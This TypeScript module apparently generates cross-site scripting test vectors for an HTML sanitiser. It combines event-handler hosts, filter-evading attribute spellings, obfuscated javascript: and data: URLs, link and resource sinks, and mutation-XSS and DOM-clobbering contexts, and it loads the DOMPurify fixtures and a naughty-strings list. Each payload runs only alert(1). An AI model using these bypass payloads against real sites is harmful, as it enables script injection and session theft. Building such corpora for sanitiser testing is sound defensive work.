import { createRequire } from 'node:module'

/** What a script vector does when it runs. */
const RUN = 'alert(1)'

/** Elements on which a handler `H` may stand, most of them with something that calls one of them. */
const HOSTS: readonly string[] = [
  '<img src=x H>',
  '<svg H><circle r=9 H></circle></svg>',
  '<body H>',
  '<input autofocus H>',
  '<details open H><summary H>x</summary></details>',
  '<video src=x H><source src=x H></video>',
  '<a href=x H>x</a>',
  '<div style="animation:k 1s;transition:all 1s" H>x</div>',
  '<x-own tabindex=0 H>x</x-own>',
  '<math H><mi H>x</mi></math>',
  '<svg><animate attributeName=x dur=1s H /><set attributeName=y to=1 H /></svg>',
  '<iframe H></iframe>',
  '<object data=x H></object>',
  '<link rel=stylesheet href=x H>',
  '<style H>p{}</style>',
  '<script H>1</script>',
  '<form H><button H>x</button><select H><option H>x</select></form>',
  '<marquee H>x</marquee>',
  '<dialog open H>x</dialog>',
  '<div popover=manual H>x</div>',
]

/** How an attribute can be written so that a filter of texts takes it for something else. */
const SPELLINGS: readonly ((handler: string) => string)[] = [
  (handler) => `${handler}="${RUN}"`,
  (handler) => `${handler.toUpperCase()}=${RUN}`,
  (handler) => `x=">"/${handler}='${RUN}'`,
  (handler) => `${handler}=&#97;lert&lpar;1)`,
  (handler) => `\n${handler}\t=\n"javascript:${RUN}"`,
]

/** Addresses that run, and how a parser of URLs and one of markup let them be written. */
const SCHEMES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` \u0001javascript:${RUN}`,
  `java\tscr\nipt:${RUN}`,
  `java&#x09;script&colon;${RUN}`,
  `&#106;&#97;vascript:${RUN}`,
  `javascript://x%0a${RUN}`,
  `javascript&#0058;${RUN}`,
  `\u00a0javascript:${RUN}`,
  `javascript:/*--></title></style></textarea></script>*/${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `DATA:TEXT/HTML;charset=utf-8,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><script>${RUN}</script></svg>`,
  `data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `data:text/xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `blob:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
]

/** Where an address `U` may stand. */
const SINKS: readonly string[] = [
  '<a href="U">x</a>',
  '<a xlink:href="U" href="U" target=_top>x</a>',
  '<map name=m><area href="U" shape=default></map><img usemap=#m src=x>',
  '<form action="U"><input type=submit></form>',
  '<form id=f></form><button form=f formaction="U">x</button>',
  '<input type=image formaction="U" src="U">',
  '<iframe src="U"></iframe>',
  '<frameset><frame src="U"></frameset>',
  '<object data="U"><param name=src value="U"></object>',
  '<embed src="U">',
  '<svg><a href="U"><text y=9>x</text></a></svg>',
  '<svg><a xlink:href="U"><text y=9>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="U" /><text y=9>x</text></a></svg>',
  '<svg><a><set attributeName="xlink:href" to="U" /><text y=9>x</text></a></svg>',
  '<svg><a><animate attributeName=href from="U" to="U" begin=0s /><text y=9>x</text></a></svg>',
  '<svg><use href="U" /><image href="U" /><script href="U"></script></svg>',
  '<math href="U"><mi xlink:href="U">x</mi></math>',
  '<base href="U"><a href="x">x</a>',
  '<meta http-equiv=refresh content="0;url=U">',
  '<link rel=stylesheet href="U"><link rel=import href="U">',
  '<img src="U" srcset="U 1x" longdesc="U" lowsrc="U" dynsrc="U">',
  '<video src="U" poster="U"><source src="U"><track src="U" default></video>',
  '<script src="U"></script><script type=module src="U"></script>',
  '<body background="U"><table background="U"><td background="U">x</table>',
  "<p style=\"background:url('U');behavior:url('U');-moz-binding:url('U')\">x",
  '<style>@import "U";p{background:url("U")}</style><p>x',
  '<div popover id=p>x</div><button popovertarget=p commandfor=p command="U">x</button>',
  '<isindex action="U" type=image><button type=submit formaction="U">x</button>',
]

/** Something that runs where it is markup. */
const PAYLOADS: readonly string[] = [
  `<img src=x onerror=${RUN}>`,
  `<script>${RUN}</script>`,
  `<svg onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<svg><script>${RUN}</script></svg>`,
  `<details open ontoggle=${RUN}>`,
]

/** Where `P` is a text for one parser and markup for another, or comes to be markup when it is written out and read again. */
const CONTEXTS: readonly string[] = [
  'P',
  '<p title="P">x</p>',
  '<noscript><p title="</noscript>P"></noscript>',
  '<noembed><p title="</noembed>P"></noembed>',
  '<noframes><style></noframes>P</style>',
  '<xmp><p title="</xmp>P"></xmp>',
  '<title><p title="</title>P"></title>',
  '<textarea><p title="</textarea>P"></textarea>',
  '<style><p title="</style>P"></style>',
  '<script type=text/template><p title="</script>P"></script>',
  '<iframe><p title="</iframe>P"></iframe>',
  '<plaintext>P',
  '<!--P--><!--><p title="-->P">',
  '<!--[if gte IE 4]>P<![endif]-->',
  '<![CDATA[<p title="]]>P">]]>',
  '<svg><![CDATA[<p title="]]>P">]]></svg>',
  '<template>P</template>',
  '<div><template shadowrootmode=open>P</template></div>',
  '<select><option>P</select>',
  '<select><template>P</template></select>',
  '<table><td>P</table>P',
  '<svg><style><p title="</style>P"></svg>',
  '<svg><desc>P</desc><title>P</title></svg>',
  '<svg><foreignObject><math><mtext>P</mtext></math></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style>P--></style></mglyph></table></mtext></math>',
  '<math><mtext><mglyph><style><p title="</style>P"></mglyph></mtext></math>',
  '<math><annotation-xml encoding="text/html">P</annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math>P',
  '<svg></p><style><a id="</style>P"></svg>',
  '<p><svg><p><style><p title="</style>P">',
  '<a><svg><a><p title="P">P</a></svg></a>',
  '<dl><dd><dl><dt><b><p><svg></b><foreignObject>P</foreignObject></svg>',
  '<object data=x><embed>P</object>',
  '<audio>P</audio><canvas>P</canvas><video>P</video>',
  '<marquee>P</marquee><nobr><nobr>P',
  '<frameset>P<noframes>P</noframes></frameset>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">P</x:script>',
  '<p data-x="P" aria-label="P" alt="P" value="P" placeholder="P" label="P" content="P" style="P" class="P">x</p>',
  '<input name=attributes><form><input name=innerHTML><input name=nodeName></form><img name=body>P',
  '<a id=createElement></a><form id=documentElement name=cookie><img name=implementation></form>P',
]

/** Vectors by systematic combination; `handlers` are the names that this browser knows. */
export function ownVectors(handlers: readonly string[]): string[] {
  const spell = (handler: string, at: number): string =>
    SPELLINGS[at % SPELLINGS.length]?.(handler) ?? ''
  return [
    // Each handler on three kinds of elements, and all of them on each.
    ...handlers.flatMap((handler, at) =>
      [0, 7, 13].map((step) =>
        (HOSTS[(at + step) % HOSTS.length] ?? '').replaceAll('H', spell(handler, at + step)),
      ),
    ),
    ...HOSTS.map((host) => host.replaceAll('H', handlers.map((each) => spell(each, 0)).join(' '))),
    ...SINKS.flatMap((sink) =>
      SCHEMES.map((url) => sink.replaceAll('U', url.replaceAll('"', '&quot;'))),
    ),
    ...CONTEXTS.flatMap((context) =>
      PAYLOADS.map((payload) => {
        const isQuoted = context.includes('"P"') || context.includes('P"')
        return context.replaceAll('P', isQuoted ? payload.replaceAll('"', '&quot;') : payload)
      }),
    ),
  ]
}

const require = createRequire(import.meta.url)

/** Lists that others keep, as their packages ship them: strings that break programs, and what a sanitiser is tested with. */
export function publicVectors(): string[] {
  const naughty: readonly string[] = require('big-list-of-naughty-strings')
  const fixtures: readonly {
    readonly payload: string
  }[] = require('dompurify-fixtures/test/fixtures/expect.js')
  return [...naughty.filter((each) => each.trim() !== ''), ...fixtures.map((each) => each.payload)]
}

/** The same string where a page holds strings and not markup: in attributes, texts, scripts and styles. */
export function inSlots(vector: string): string {
  const text = vector.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')
  const names = 'href src srcdoc style title action formaction data onclick onload id class content'
  const attributes = names
    .split(' ')
    .map((name) => `${name}="${text}"`)
    .join(' ')
  const elements = ['a', 'button', 'svg', 'meta', 'x-own']
  const raw = vector.replaceAll('</', '<\\/')
  return `${elements.map((name) => `<${name} ${attributes}>${text}</${name}>`).join('')}<style>${raw}</style><textarea>${text}</textarea><title>${text}</title>`
}
